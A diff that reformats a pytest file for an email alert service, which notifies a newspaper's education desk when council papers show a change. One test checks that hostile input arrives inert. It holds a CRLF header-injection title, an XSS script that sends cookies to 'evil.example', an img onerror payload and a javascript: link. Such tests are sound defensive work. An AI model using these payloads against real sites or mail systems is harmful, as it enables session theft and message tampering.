@@ -19,8 +19,17 @@ D = dt.date
 READER = "education.desk@northshire-gazette.example"
 
 
-def deliver_one_change(config, database, *, title: str, quote: str, url: str | None = None, council_name: str | None = None,  # type: ignore[no-untyped-def]
-                       papers_url: str | None = None, scanned: bool = False):
+def deliver_one_change(
+    config,
+    database,
+    *,
+    title: str,
+    quote: str,
+    url: str | None = None,
+    council_name: str | None = None,  # type: ignore[no-untyped-def]
+    papers_url: str | None = None,
+    scanned: bool = False,
+):
     """Baseline, then one off-track paper (``scanned``: its quoted page read by OCR); send the alert."""
     with database.session() as session:
         sync_councils(session, config)
@@ -54,7 +63,9 @@ def parts(received):  # type: ignore[no-untyped-def]
 def test_an_alert_names_the_change_quotes_the_paper_and_links_to_it(smtp_config, smtp_server, database):
     _, config = smtp_config()
     deliver_one_change(
-        config, database, title="Safety Valve quarter 3 monitoring return",
+        config,
+        database,
+        title="Safety Valve quarter 3 monitoring return",
         quote="The latest return shows the council is behind its agreed trajectory and is no longer on track.",
     )
     (received,) = smtp_server.handler.to(READER)
@@ -73,12 +84,16 @@ def test_an_alert_names_the_change_quotes_the_paper_and_links_to_it(smtp_config,
 
 def test_every_alert_carries_signed_one_click_unsubscribe_and_a_manage_link(smtp_config, smtp_server, database):
     _, config = smtp_config()
-    deliver_one_change(config, database, title="Quarter 3 return", quote="The council is no longer on track against its agreement.")
+    deliver_one_change(
+        config, database, title="Quarter 3 return", quote="The council is no longer on track against its agreement."
+    )
     (received,) = smtp_server.handler.to(READER)
     html, text = parts(received)
 
     assert received.message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
-    unsubscribe_url = re.fullmatch(r"<(https://sendwatch\.example\.org/unsubscribe\?token=[^>]+)>", received.message["List-Unsubscribe"]).group(1)
+    unsubscribe_url = re.fullmatch(
+        r"<(https://sendwatch\.example\.org/unsubscribe\?token=[^>]+)>", received.message["List-Unsubscribe"]
+    ).group(1)
     token = parse_qs(urlsplit(unsubscribe_url).query)["token"][0]
     claims = read_token(signing_secret(config), token, "unsubscribe")
     assert claims is not None and claims.email == READER
@@ -92,7 +107,8 @@ def test_every_alert_carries_signed_one_click_unsubscribe_and_a_manage_link(smtp
 def test_scripts_javascript_links_and_header_injection_arrive_inert(smtp_config, smtp_server, database):
     _, config = smtp_config()
     deliver_one_change(
-        config, database,
+        config,
+        database,
         title='Quarter 3 return\r\nBcc: victim@example.org\r\n<script>alert("title")</script>',
         quote='The council is not on track <script>document.location="https://evil.example/?"+document.cookie</script> <img src=x onerror=alert(1)>.',
         url="javascript:alert(document.cookie)",
@@ -132,8 +148,13 @@ def test_the_signing_secret_is_generated_once_in_a_private_file_when_none_is_set
 
 def test_evidence_read_by_ocr_from_a_scan_says_so_in_both_parts(smtp_config, smtp_server, database):
     _, config = smtp_config()
-    deliver_one_change(config, database, title="Letter from the DfE (scanned)", scanned=True,
-                       quote="The council is behind its agreed trajectory and is no longer on track.")
+    deliver_one_change(
+        config,
+        database,
+        title="Letter from the DfE (scanned)",
+        scanned=True,
+        quote="The council is behind its agreed trajectory and is no longer on track.",
+    )
     (received,) = smtp_server.handler.to(READER)
     html, text = parts(received)
     assert "Letter from the DfE (scanned), page 6, 16 January 2025 (read by OCR from a scan" in text
@@ -142,6 +163,8 @@ def test_evidence_read_by_ocr_from_a_scan_says_so_in_both_parts(smtp_config, smt
 
 def test_evidence_from_a_text_page_says_nothing_of_ocr(smtp_config, smtp_server, database):
     _, config = smtp_config()
-    deliver_one_change(config, database, title="Quarter 3 return", quote="The council is behind its agreed trajectory and is no longer on track.")
+    deliver_one_change(
+        config, database, title="Quarter 3 return", quote="The council is behind its agreed trajectory and is no longer on track."
+    )
     (received,) = smtp_server.handler.to(READER)
     assert not any("OCR" in part for part in parts(received))
